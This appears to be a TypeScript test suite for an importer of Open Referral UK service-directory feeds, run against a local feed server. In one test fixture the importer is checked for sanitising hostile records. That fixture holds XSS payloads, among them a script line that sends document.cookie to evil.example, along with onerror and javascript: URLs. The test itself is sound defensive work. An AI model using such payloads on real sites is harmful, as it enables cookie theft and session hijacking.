// The ORUK importer against a local feed server (test/fixtures/oruk/feed-server.ts) serving the
// standard's official 3.0 examples, the real North Lincolnshire 1.0 feed, NDJSON, and broken
// variants of each, on both stores.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { sql } from 'kysely'
import type { Store } from '../../src/db/connection.js'
import { ensureNeedTerms } from '../../src/db/repositories/taxonomy.js'
import { isOrukFetchError } from '../../src/importers/oruk/fetch.js'
import { importOruk, type OrukSource } from '../../src/importers/oruk/import.js'
import { withImportLock } from '../../src/importers/oruk/lock.js'
import { startOrukSchedule } from '../../src/importers/oruk/scheduler.js'
import { translator } from '../../src/web/i18n/index.js'
import { failingOn, ndjson, northLincolnshire, officialServices, pages1, pages3, startFeedServer, type FeedServer, type Json } from '../fixtures/oruk/feed-server.js'
import { buildTestApp, type TestApp } from '../support/app.js'
import { onEveryStore, STORE_KINDS } from '../support/stores.js'

const NORTH_LINCS = 'E06000013'
const FETCHED = '2024-12-18T00:00:00.000Z'
const WAWY = '738f94e0-aa6c-6a5c-2395-7b64421ba2a5'

let feeds: FeedServer
before(async () => {
  feeds = await startFeedServer()
})
after(async () => {
  await feeds.close()
})

async function count(store: Store, table: 'services' | 'organisations', source?: string): Promise<number> {
  let query = store.db.selectFrom(table).select(sql<number>`count(*)`.as('n'))
  if (source) query = query.where('source', '=', source)
  return Number((await query.executeTakeFirstOrThrow()).n)
}

/** Every stored service of a source, with its hash: to show that nothing changed. */
async function snapshot(store: Store, source: string): Promise<string> {
  const rows = await store.db.selectFrom('services').select(['id', 'name', 'description', 'source_hash', 'fetched_at']).where('source', '=', source).orderBy('id').execute()
  return JSON.stringify(rows)
}

async function service(store: Store, id: string) {
  return store.db.selectFrom('services').selectAll().where('id', '=', id).executeTakeFirstOrThrow()
}

onEveryStore('ORUK import', (store) => {
  before(async () => {
    const t = translator('en')
    await ensureNeedTerms(store().db, (code) => t(`needs.${code}`))
  })

  describe('the official 3.0 examples, paginated', () => {
    const path = `/v3/${Math.random().toString(36).slice(2)}/services`
    let source: OrukSource
    before(() => {
      feeds.set(path, pages3(officialServices, 1))
      source = { location: feeds.url(path), council: 'E08000025', label: 'Example Council' }
    })

    test('follows both pages and stores each service with its provenance', async () => {
      const report = await importOruk(store(), source)
      assert.equal(report.pages, 2)
      assert.deepEqual(report.shapes, { 'oruk-3.0': 2 })
      assert.equal(report.created, 2)
      assert.equal(report.organisations.created, 1, 'both services name the same organisation')
      assert.deepEqual(report.skippedInvalid, [])
      const full = await service(store(), 'ac148810-d857-441c-9679-408f346de14b')
      assert.equal(full.source, feeds.url(path))
      assert.equal(full.source_label, 'Example Council')
      assert.equal(full.source_id, 'ac148810-d857-441c-9679-408f346de14b')
      assert.equal(full.fetched_at, report.fetchedAt)
      assert.match(full.source_hash ?? '', /^[0-9a-f]{64}$/)
      assert.equal(full.min_age, 12)
      assert.equal(full.max_age, 100)
      assert.equal(full.is_free, 0, 'the example charges 35 for a session')
      assert.match(full.cost_description ?? '', /35 per 1 hour session/)
      assert.equal(full.last_reviewed, '2005-01-01')
      const contacts = await store().db.selectFrom('contacts').selectAll().where('subject_id', '=', full.id).execute()
      assert.deepEqual(contacts.map((c) => [c.name, c.notes]), [['Ann Persona', 'Reception Manager']])
      const places = await store()
        .db.selectFrom('service_locations')
        .innerJoin('locations', 'locations.id', 'service_locations.location_id')
        .select(['locations.postcode', 'locations.lat', 'locations.lng', 'locations.town'])
        .where('service_locations.service_id', '=', full.id)
        .execute()
      // The example's latitude 100 is no place on Earth: the address is kept, the position is not.
      assert.deepEqual(places, [{ postcode: 'ABC 1234', lat: null, lng: null, town: 'MyCity' }])
      const schedules = await store().db.selectFrom('schedules').select('description').where('service_id', '=', full.id).execute()
      assert.equal(schedules.length, 1)
      const areas = await store().db.selectFrom('areas_served').select('council_code').where('subject_id', '=', full.id).execute()
      assert.deepEqual(areas, [{ council_code: 'E08000025' }])
      const indexed = await store().db.selectFrom('search_documents').select('name').where('subject_id', '=', full.id).execute()
      assert.deepEqual(indexed, [{ name: 'Community Counselling' }])
    })

    test('importing the same feed again changes nothing', async () => {
      const before = await store().db.selectFrom('services').select(['id', 'updated_at', 'source_hash']).where('source', '=', source.location).orderBy('id').execute()
      const report = await importOruk(store(), source)
      assert.deepEqual([report.created, report.updated, report.unchanged, report.keptLocal.length], [0, 0, 2, 0])
      assert.deepEqual(report.organisations, { created: 0, updated: 0, unchanged: 1, keptLocal: 0 })
      const afterRows = await store().db.selectFrom('services').select(['id', 'updated_at', 'source_hash']).where('source', '=', source.location).orderBy('id').execute()
      assert.deepEqual(afterRows, before)
    })
  })

  describe('the real North Lincolnshire 1.0 feed, split into pages', () => {
    const path = `/v1/${Math.random().toString(36).slice(2)}/services`
    let records: Json[]
    let source: OrukSource
    before(() => {
      records = northLincolnshire()
      feeds.set(path, pages1(() => records, 100))
      source = { location: feeds.url(path), council: NORTH_LINCS, label: 'North Lincolnshire Council' }
    })

    test('imports all 738 services from 8 pages, as plain text, labelled with their council', async () => {
      const report = await importOruk(store(), source, { fetchedAt: FETCHED })
      assert.equal(report.pages, 8)
      assert.deepEqual(report.shapes, { 'oruk-1.0': 8 })
      assert.equal(report.records, 738)
      assert.equal(report.created, 738)
      assert.deepEqual(report.skippedInvalid, [])
      assert.equal(report.organisations.created, 239)
      assert.ok(report.ignoredFields.some((field) => field.field === 'pc_metadata'))
      assert.equal(await count(store(), 'services', source.location), 738)
      const withMarkup = await store().db.selectFrom('services').select('id').where('source', '=', source.location).where('description', 'like', '%<%>%').execute()
      assert.deepEqual(withMarkup, [])
      const wawy = await service(store(), WAWY)
      assert.match(wawy.description, /^Struggling with Drug & Alcohol Addiction\?/)
      assert.match(wawy.description, /drugs & alcohol\.\n\nWe Are With You are now offering/)
      assert.equal(wawy.fetched_at, FETCHED)
      assert.equal(wawy.last_reviewed, '2024-12-10')
      const autism = await store().db.selectFrom('subject_needs').innerJoin('services', 'services.id', 'subject_needs.subject_id').select('services.id').where('services.source', '=', source.location).where('need_code', '=', 'autism').execute()
      assert.ok(autism.length >= 18, 'the 18 records whose audience is "Autism" (and the "Aspergers" ones) serve autism')
      const documents = await store().db.selectFrom('search_documents').select(sql<number>`count(*)`.as('n')).where('council_codes', 'like', `% ${NORTH_LINCS} %`).executeTakeFirstOrThrow()
      assert.equal(Number(documents.n), 738)
    })

    test('a second import of the same feed leaves every record unchanged', async () => {
      const report = await importOruk(store(), source, { fetchedAt: FETCHED })
      assert.deepEqual([report.created, report.updated, report.unchanged, report.keptLocal.length, report.missingFromFeed.length], [0, 0, 738, 0, 0])
    })

    test('a changed record is updated; a record edited here is kept and reported; a record gone is reported, not deleted', async () => {
      const edited = String(records[1]!.id)
      await store().db.updateTable('services').set({ description: 'Edited by the Local Offer team.' }).where('source_id', '=', edited).execute()
      const gone = records[2]!
      records = records.filter((record) => record !== gone)
      records[0] = { ...records[0], name: 'We Are With You (drop-in)' }
      records[1] = { ...records[1], description: '<p>The feed says something new.</p>' }
      const report = await importOruk(store(), source, { fetchedAt: '2025-01-20T00:00:00.000Z' })
      assert.equal(report.updated, 1)
      assert.equal(report.unchanged, 735)
      assert.deepEqual(report.keptLocal.map((record) => record.sourceId), [edited])
      assert.deepEqual(report.missingFromFeed.map((record) => record.sourceId), [String(gone.id)])
      assert.equal((await service(store(), WAWY)).name, 'We Are With You (drop-in)')
      const indexed = await store().db.selectFrom('search_documents').select('name').where('subject_id', '=', WAWY).executeTakeFirstOrThrow()
      assert.equal(indexed.name, 'We Are With You (drop-in)')
      const kept = await store().db.selectFrom('services').select(['description', 'fetched_at']).where('source_id', '=', edited).executeTakeFirstOrThrow()
      assert.deepEqual(kept, { description: 'Edited by the Local Offer team.', fetched_at: FETCHED })
      const missing = await store().db.selectFrom('services').select(['name', 'source_missing_since']).where('source_id', '=', String(gone.id)).executeTakeFirstOrThrow()
      assert.equal(missing.source_missing_since, '2025-01-20T00:00:00.000Z')
      assert.equal(await count(store(), 'services', source.location), 738, 'nothing deleted')
    })

    test('a record back in the feed is no longer marked missing', async () => {
      records = northLincolnshire()
      records[0] = { ...records[0], name: 'We Are With You (drop-in)' }
      const report = await importOruk(store(), source, { fetchedAt: '2025-02-01T00:00:00.000Z' })
      assert.deepEqual(report.missingFromFeed, [])
      const marked = await store().db.selectFrom('services').select('id').where('source', '=', source.location).where('source_missing_since', 'is not', null).execute()
      assert.deepEqual(marked, [])
    })

    test('a fetch that fails midway changes nothing stored', async () => {
      const before = await snapshot(store(), source.location)
      const broken = { ...source }
      for (const [answer, code] of [
        [{ status: 500, body: '{"error":"server"}' }, 'http_status'],
        [{ type: 'text/html', body: '<html><body>Service unavailable</body></html>' }, 'not_json'],
        [{ body: '{"results":[]}' }, 'wrong_shape'],
      ] as const) {
        records = northLincolnshire().map((record) => ({ ...record, name: `${String(record.name)} (changed)` }))
        feeds.set(path, failingOn(2, pages1(() => records, 100), answer))
        await assert.rejects(importOruk(store(), broken), (error) => {
          assert.ok(isOrukFetchError(error))
          assert.equal(error.code, code)
          assert.equal(error.page, 3, 'the third page read (?page=2, the feed numbering from 0)')
          assert.ok(error.message.includes(`${feeds.url(path)}?page=2`), error.message)
          return true
        })
      }
      assert.equal(await snapshot(store(), source.location), before)
    })

    test('a response over the size limit stops the import with nothing changed', async () => {
      const before = await snapshot(store(), source.location)
      feeds.set(path, pages1(() => records, 800))
      await assert.rejects(importOruk(store(), source, { limits: { maxPageBytes: 256 * 1024 } }), (error) => isOrukFetchError(error) && error.code === 'too_large' && /larger than/.test(error.message))
      assert.equal(await snapshot(store(), source.location), before)
    })
  })

  describe('broken and hostile records', () => {
    const path = `/v3/${Math.random().toString(36).slice(2)}/broken`
    const organization = { id: '0e9f0a52-62c9-4d8a-8d2f-0d4a8f5f8a11', name: 'Test Provider' }
    const good = { id: 'b0c4d3a2-1f0e-4d9c-8b7a-6f5e4d3c2b1a', name: 'A good service', description: 'Fine.', status: 'active', organization }
    const feed = [
      good,
      { id: 'c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f', name: '', description: 'No name', organization },
      {
        id: 'd2e3f4a5-b6c7-4d8e-9f0a-1b2c3d4e5f6a',
        name: 'Hostile <b>service</b>',
        description: '<p>Real words.</p><script>document.location="https://evil.example/?c="+document.cookie</script><img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a>',
        url: 'javascript:alert(3)',
        email: 'not an email',
        organization,
      },
      'not a record',
      { ...good, name: 'A good service, twice' },
      { id: 'LOCAL-42', name: 'A service whose id is not a UUID', description: '', organization },
      { id: 'e3f4a5b6-c7d8-4e9f-8a1b-2c3d4e5f6a7b', name: 'No provider', description: 'x' },
    ]
    let source: OrukSource
    before(() => {
      feeds.set(path, pages3(() => feed as Json[], 50))
      source = { location: feeds.url(path), council: NORTH_LINCS }
    })

    test('are skipped with their place and reason; the rest are imported, sanitised', async () => {
      const report = await importOruk(store(), source)
      assert.equal(report.records, 7)
      assert.equal(report.created, 3)
      const skipped = report.skippedInvalid.map((entry) => [entry.where, entry.sourceId, entry.reason])
      assert.deepEqual(skipped, [
        ['page 1, record 2', 'c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f', 'name is missing'],
        ['page 1, record 4', undefined, 'not an object'],
        ['page 1, record 5', good.id, 'the same id as page 1, record 1: the first is imported'],
        ['page 1, record 7', 'e3f4a5b6-c7d8-4e9f-8a1b-2c3d4e5f6a7b', 'organization.name is missing: the service has no provider to list it under'],
      ])
      const hostile = await service(store(), 'd2e3f4a5-b6c7-4d8e-9f0a-1b2c3d4e5f6a')
      assert.equal(hostile.name, 'Hostile service')
      assert.equal(hostile.description, 'Real words.\n\nclick')
      assert.equal(hostile.url, null)
      assert.equal(hostile.email, null)
      assert.deepEqual(
        report.notes.filter((note) => note.sourceId === hostile.id).map((note) => note.note),
        ['url is not an http(s) address and was left out', 'email is not an email address and was left out'],
      )
      const local = await store().db.selectFrom('services').select(['id', 'source_id']).where('name', '=', 'A service whose id is not a UUID').executeTakeFirstOrThrow()
      assert.equal(local.source_id, 'LOCAL-42')
      assert.match(local.id, /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/)
      // The same feed id always gives the same id here.
      const again = await importOruk(store(), source)
      assert.equal(again.unchanged, 3)
      assert.equal(again.missingFromFeed.length, 0, 'records skipped for being invalid are still in the feed')
    })

    test('an NDJSON feed is read line by line, and a line cut short is skipped', async () => {
      const ndPath = `${path}.ndjson`
      const lines = [
        { ...good, id: 'f4a5b6c7-d8e9-4f0a-9b1c-2d3e4f5a6b7c', name: 'First line service' },
        { ...good, id: 'a5b6c7d8-e9f0-4a1b-8c2d-3e4f5a6b7c8d', name: 'Second line service' },
        { ...good, id: 'b6c7d8e9-f0a1-4b2c-9d3e-4f5a6b7c8d9e', name: 'Third line service, cut short' },
      ]
      feeds.set(ndPath, ndjson(() => lines, true))
      const report = await importOruk(store(), { location: feeds.url(ndPath), council: NORTH_LINCS })
      assert.deepEqual(report.shapes, { ndjson: 1 })
      assert.equal(report.created, 2)
      assert.deepEqual(report.skippedInvalid, [{ where: 'line 3', sourceId: undefined, reason: 'the line is not JSON (cut short?)' }])
    })
  })

  describe('the schedule', () => {
    const path = `/v3/${Math.random().toString(36).slice(2)}/scheduled`
    test('imports on the interval, one run at a time, logs counts only, and stops cleanly', async () => {
      feeds.set(path, pages3(officialServices, 1))
      const logged: Array<{ details: object; message: string }> = []
      const logger = { info: (details: object, message: string) => logged.push({ details, message }), warn: (details: object, message: string) => logged.push({ details, message }) }
      const schedule = startOrukSchedule(store(), { sources: [{ url: feeds.url(path), council: NORTH_LINCS, label: 'Scheduled' }], intervalMs: 40, logger })
      assert.ok(schedule)
      const deadline = Date.now() + 10_000
      while (logged.filter((entry) => entry.message === 'ORUK import finished').length < 2 && Date.now() < deadline) await new Promise((done) => setTimeout(done, 20))
      // While a run holds the lock, no other import starts.
      const [first, second] = [schedule.runNow(), schedule.runNow()]
      assert.equal(first, second)
      await first
      await schedule.stop()
      const finished = logged.filter((entry) => entry.message === 'ORUK import finished')
      assert.ok(finished.length >= 2, 'ran at least twice')
      const requestsAtStop = feeds.requests.length
      await new Promise((done) => setTimeout(done, 150))
      assert.equal(feeds.requests.length, requestsAtStop, 'no run after stop')
      const text = JSON.stringify(logged)
      assert.ok(!text.includes('email@example.com') && !text.includes('Ann Persona'), 'no contact details in the log')
      assert.deepEqual(Object.keys((finished[0]!.details as { oruk: object }).oruk).sort(), ['created', 'keptLocal', 'missingFromFeed', 'organisations', 'pages', 'records', 'skippedInvalid', 'source', 'unchanged', 'updated'])
      assert.equal(startOrukSchedule(store(), { sources: [], intervalMs: 40, logger }), undefined, 'off without feeds')
    })

    test('a second import does not start while one holds the lock', async () => {
      let inner: { ran: boolean } | undefined
      const outer = await withImportLock(store(), async () => {
        inner = await withImportLock(store(), () => Promise.resolve('should not run'))
        return 'ran'
      })
      assert.deepEqual(outer, { ran: true, value: 'ran' })
      assert.deepEqual(inner, { ran: false })
    })
  })
})

// The demo data set gains the real feed through the importer; its pages say where it came from.
for (const kind of STORE_KINDS) {
  const skip = kind === 'postgres' && !process.env.TEST_DATABASE_URL ? 'PostgreSQL suite SKIPPED: TEST_DATABASE_URL is not set' : false
  describe(`demo data from North Lincolnshire's feed [${kind}]`, { skip }, () => {
    let testApp: TestApp
    before(async () => {
      testApp = await buildTestApp(kind)
    })
    after(async () => {
      await testApp?.close()
    })

    test('every service is loaded, labelled with its source and as outside the home council', async () => {
      const db = testApp.services.store.db
      const rows = await db.selectFrom('services').select(['source_label', 'fetched_at']).where('source', '=', 'North Lincolnshire Council').execute()
      assert.equal(rows.length, 738)
      assert.ok(rows.every((row) => row.source_label === 'North Lincolnshire Council' && row.fetched_at === FETCHED))
      const page = await testApp.app.inject({ url: `/services/${WAWY}` })
      assert.equal(page.statusCode, 200)
      assert.ok(page.body.includes('From North Lincolnshire Council’s directory, fetched on 18 December 2024.'), 'provenance line')
      assert.ok(page.body.includes('This is outside Birmingham City Council'), 'outside the home council')
      assert.ok(page.body.includes('We Are With You are now offering a drop in session'), 'the second paragraph')
      assert.ok(!page.body.includes('&lt;p&gt;'), 'no escaped markup on the page')
    })

    test('search finds the council’s services', async () => {
      const page = await testApp.app.inject({ url: '/search?q=bowls' })
      assert.equal(page.statusCode, 200)
      const found = [...page.body.matchAll(/<a class="govuk-link" href="\/services\/([0-9a-f-]{36})">/g)].map((match) => match[1]!)
      assert.ok(found.length > 0, 'results link to services')
      const sources = await testApp.services.store.db.selectFrom('services').select('source').where('id', 'in', found).execute()
      assert.ok(sources.length > 0 && sources.every((row) => row.source === 'North Lincolnshire Council'), 'every bowls club is one of the council’s')
    })
  })
}
